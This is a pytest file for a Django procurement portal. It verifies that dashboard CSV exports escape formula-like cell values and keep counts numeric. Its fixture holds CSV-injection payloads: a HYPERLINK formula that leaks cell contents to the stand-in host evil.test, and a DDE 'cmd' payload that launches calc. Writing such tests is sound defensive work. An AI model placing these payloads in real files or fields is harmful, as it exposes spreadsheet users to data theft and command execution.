"""Every CSV of the dashboard is safe to open in a spreadsheet: no cell runs as a formula, and
the counts stay numbers.

The hostile values are put in the database directly, as rows saved before the portal refused
them (an agency's acronym); the forms refuse them now (tests/suppliers/test_formula_fields.py). A
province is a code of suppliers.regions since, written by its name: no text of a supplier's."""

import csv
import io

import pytest
from django.utils import timezone

from notices.alerts.models import AlertDelivery, DeliveryKind
from notices.models import Award
from portal import dashboard, rollups
from suppliers.models import Supplier, SupplierStatus
from tests.events.factories import fair_that_ended_at
from tests.factories import UserFactory
from tests.notices.factories import AgencyFactory, NoticeFactory, make_alert
from tests.suppliers.factories import SupplierFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Click me")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_program(db):
    for _ in HOSTILE:
        supplier = SupplierFactory(province="44", categories=["43000000"])
        Supplier.objects.filter(pk=supplier.pk).update(status=SupplierStatus.APPROVED)
    Award.objects.create(  # an order won by the last (the dashboard counts the orders won)
        notice=NoticeFactory(),
        supplier=supplier,
        supplier_name=HYPERLINK,
        value=1,
        currency="USD",
        awarded_on=timezone.localdate(timezone=dashboard.Filters().zone),
    )
    # A fair named like a formula, where the last supplier came, met a buyer and then won.
    fair_that_ended_at(timezone.now(), supplier=supplier, agency=AgencyFactory(), title="=EVIL()")
    for acronym in ("=EVIL()", "@EVIL"):
        NoticeFactory(agency=AgencyFactory(acronym=acronym))
    make_alert(categories=["43"])
    AlertDelivery.objects.create(
        user=UserFactory(),
        notice=NoticeFactory(),
        kind=DeliveryKind.NEW_NOTICE,
        status="sent",
    )
    rollups.refresh_rollups()


def download(client, slug) -> list[list[str]]:
    response = client.get(f"/dashboard/{slug}.csv", {"period": "all"})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("slug", list(dashboard.CHARTS))
def test_no_cell_of_any_dashboard_csv_can_run_as_a_formula(client, staff, hostile_program, slug):
    client.force_login(staff)

    rows = download(client, slug)

    assert len(rows) > 1, "the chart has rows"
    for row in rows[1:]:
        label, *counts = row
        assert label[:1] not in "=+-@\t\r", f"{slug}: {label!r} would run as a formula"
        assert all(is_number(count) and not count.startswith("'") for count in counts), row


def test_a_province_is_written_by_its_name_and_its_count_as_a_number(
    client, staff, hostile_program
):
    client.force_login(staff)

    rows = download(client, "provinces")

    assert rows[1:] == [["Guangdong", str(len(HOSTILE))]]


def test_a_hostile_agency_acronym_is_written_as_text(client, staff, hostile_program):
    client.force_login(staff)

    labels = [row[0] for row in download(client, "agencies")[1:]]

    assert {"'=EVIL()", "'@EVIL"} <= set(labels)
